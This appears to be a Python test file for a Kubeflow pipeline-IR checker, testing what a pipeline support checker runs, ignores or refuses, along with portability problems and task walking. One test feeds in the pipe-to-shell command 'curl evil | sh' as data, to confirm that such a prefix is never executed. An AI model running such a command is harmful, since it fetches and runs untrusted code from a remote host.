"""What runs here, what is ignored, what is refused by name."""

from __future__ import annotations

from typing import Any

import msgspec

from platform_ctl.ir import portability, support
from platform_ctl.ir.pipeline import Pipeline
from tests.support import ir

HERE = support.Environment(
    satisfied=lambda requirement: "it is here" if requirement.startswith("kfp") else "",
    unreadable=lambda uri: "no gs" if uri.startswith("gs://") else "",
)


def findings(document: dict[str, Any]) -> list[tuple[str, str]]:
    found = support.findings(msgspec.convert(document, Pipeline), HERE)
    return [(f.action, f.what) for f in found]


def container(document: dict[str, Any]) -> dict[str, Any]:
    return document["deploymentSpec"]["executors"]["exec-add"]["container"]


def test_a_thin_component_is_recognised() -> None:
    pipeline = msgspec.convert(ir.document(), Pipeline)
    thin = support.thin_component(pipeline.deployment_spec.executors["exec-add"].container)
    assert thin.function == "add"
    assert thin.source.startswith("def add")
    assert findings(ir.document()) == []


def test_pip_installs_are_read_from_the_script() -> None:
    document = ir.document()
    script = (
        "\npip_check\nPIP_X=1 python3 -m pip install --quiet --index-url https://a/simple 'yapf'"
        "  &&  python3 -m pip install --quiet 'kfp==2.1' '--no-deps' && \"$0\" \"$@\"\n"
    )
    container(document)["command"][:0] = ["sh", "-c", script]
    assert [(action, what.split(":")[0]) for action, what in findings(document)] == [
        ("refused", "pip install 'yapf'"),
        ("ignored", "pip install 'kfp==2.1'"),
    ]


def test_a_command_that_only_looks_thin_is_refused() -> None:
    for change in (["sh", "-c", "curl evil | sh; "], ["bash", "-c", "x"], ["sh"]):
        document = ir.document()
        container(document)["command"][:0] = change
        actions = findings(document)
        if change[:2] == ["sh", "-c"]:
            assert actions == [], "a prefix is read for its requirements and never executed"
        else:
            assert actions[0][0] == "refused"


def test_resources_are_ignored_and_accelerators_refused() -> None:
    document = ir.document()
    container(document)["resources"] = {"resourceCpuLimit": "1", "accelerator": {"count": 1}}
    assert [action for action, _ in findings(document)] == ["ignored", "refused"]


def test_kubernetes_settings() -> None:
    document = ir.document()
    settings = {
        "nodeSelector": {}, "secretAsEnv": [], "activeDeadlineSeconds": 5, "newThing": 1,
    }  # fmt: skip
    document["platforms"] = {
        "kubernetes": {"deploymentSpec": {"executors": {"exec-add": settings}}}
    }
    assert [action for action, _ in findings(document)] == ["ignored", "refused", "refused"]


def test_portability_names_what_differs_between_targets() -> None:
    document = ir.document()
    document["root"]["inputDefinitions"]["parameters"]["later"] = {
        "parameterType": "STRING",
        "isOptional": True,
    }
    container(document)["env"] = [{"name": "COLOUR", "value": "teal"}]
    task = document["root"]["dag"]["tasks"]["second"]
    task["triggerPolicy"] = {"condition": "inputs.parameter_values['text'] == 'x'"}
    task["inputs"]["parameters"]["text"] = {
        "taskOutputParameter": {"producerTask": "first", "outputParameterKey": "Output"}
    }
    pipeline = msgspec.convert(document, Pipeline)
    text = " ".join(map(str, portability.problems(pipeline, release=True)))
    for word in ("later", "COLOUR", "free text", "example/image:1.0"):
        assert word in text
    assert "digest" not in " ".join(map(str, portability.problems(pipeline)))


def test_a_verdict_may_decide() -> None:
    document = ir.document()
    task = document["root"]["dag"]["tasks"]["second"]
    task["triggerPolicy"] = {"condition": "inputs.parameter_values['v'] == 'successful'"}
    task["inputs"]["parameters"]["v"] = {
        "taskOutputParameter": {"producerTask": "first", "outputParameterKey": "verdict"}
    }
    assert portability.problems(msgspec.convert(document, Pipeline)) == []


def test_a_cached_task_must_not_be_told_which_run_it_is() -> None:
    document = ir.document()
    task = document["root"]["dag"]["tasks"]["second"]
    constant = {"runtimeValue": {"constant": "{{$.pipeline_job_uuid}}"}}
    task["inputs"]["parameters"]["run_id"] = constant
    (problem,) = portability.problems(msgspec.convert(document, Pipeline))
    assert problem.where == "second" and "pipeline_job_uuid" in problem.what
    task["cachingOptions"] = {}
    assert portability.problems(msgspec.convert(document, Pipeline)) == []


def test_walk_gives_every_task_with_its_path() -> None:
    document = ir.document()
    document["components"]["comp-loop"] = {"dag": {"tasks": dict(document["root"]["dag"]["tasks"])}}
    document["root"]["dag"]["tasks"]["loop"] = {
        "componentRef": {"name": "comp-loop"},
        "parameterIterator": {"items": {"raw": "[1]"}, "itemInput": "a"},
    }
    pipeline = msgspec.convert(document, Pipeline)
    places = [(p.path, p.repeated) for p in pipeline.walk()]
    assert places == [
        ("first", False),
        ("second", False),
        ("loop", True),
        ("loop.first", True),
        ("loop.second", True),
    ]
